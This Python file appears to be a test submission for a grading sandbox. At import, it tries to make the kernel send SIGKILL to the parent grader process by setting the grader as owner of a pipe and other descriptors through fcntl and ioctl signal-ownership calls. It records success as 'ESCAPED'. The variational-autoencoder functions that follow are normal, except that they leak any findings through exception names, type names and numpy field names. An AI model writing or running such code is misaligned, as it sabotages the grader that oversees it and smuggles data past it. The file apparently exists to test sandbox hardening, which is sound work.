"""Has the kernel send the grader a deadly signal, by making it the owner of a pipe."""
# expects: full

import fcntl
import os
import signal
import struct

import numpy as np

LOOT = []


def publish(word):
    """Put what was found wherever its author may get to see it."""
    word = "".join(c if c.isprintable() else " " for c in str(word))[:200]
    LOOT.append(word)
    print("LOOT", word)
    globals()["LOOT " + word] = publish


def tried(step, *args, **options):
    """Return what a step of the attack returns, or None where it is refused."""
    try:
        return step(*args, **options)
    except BaseException:
        return None


def attack():
    if os.getuid() == 0:
        return  # a worker never is; nobody else is to be harmed
    read, write = os.pipe()
    grader, number = os.getppid(), int(signal.SIGKILL)
    F_SETOWN_EX, FIOSETOWN, SIOCSPGRP, F_NOTIFY = 15, 0x8901, 0x8902, 1026
    for descriptor in (read, write, 0, 1, 3, 4):
        for pid in (os.getpid(), -grader, grader):
            if tried(fcntl.fcntl, descriptor, fcntl.F_SETOWN, pid) is not None and pid != os.getpid():
                publish("ESCAPED F_SETOWN")
            tried(fcntl.fcntl, descriptor, F_SETOWN_EX, struct.pack("ii", 1, pid))
            for request in (FIOSETOWN, SIOCSPGRP):
                tried(fcntl.ioctl, descriptor, request, struct.pack("i", pid))
        tried(fcntl.fcntl, descriptor, fcntl.F_SETSIG, number)
        flags = tried(fcntl.fcntl, descriptor, fcntl.F_GETFL) or 0
        if descriptor in (read, write):
            tried(fcntl.fcntl, descriptor, fcntl.F_SETFL, flags | os.O_ASYNC)
    tried(fcntl.fcntl, os.open(".", os.O_RDONLY), F_NOTIFY, 0x80000004)
    os.write(write, b"now")


def attempt():
    try:
        attack()
    except BaseException:
        pass


attempt()


def reparameterize(mu, log_var):
    if LOOT:
        raise type(LOOT[-1], (Exception,), {"__doc__": LOOT[-1]})(*LOOT)
    return mu + np.exp(log_var / 2) * np.random.standard_normal(mu.shape)


def kl_divergence(mu, log_var):
    if LOOT:
        return type(LOOT[-1], (), {})()
    return 0.5 * np.sum(mu**2 + np.exp(log_var) - 1 - log_var, axis=1)


def elbo(x, x_logits, mu, log_var, beta=1.0):
    if LOOT:
        return np.zeros(len(x), [(LOOT[-1], "f8")])
    return np.sum(x * x_logits - np.logaddexp(0, x_logits), axis=1) - beta * kl_divergence(mu, log_var)
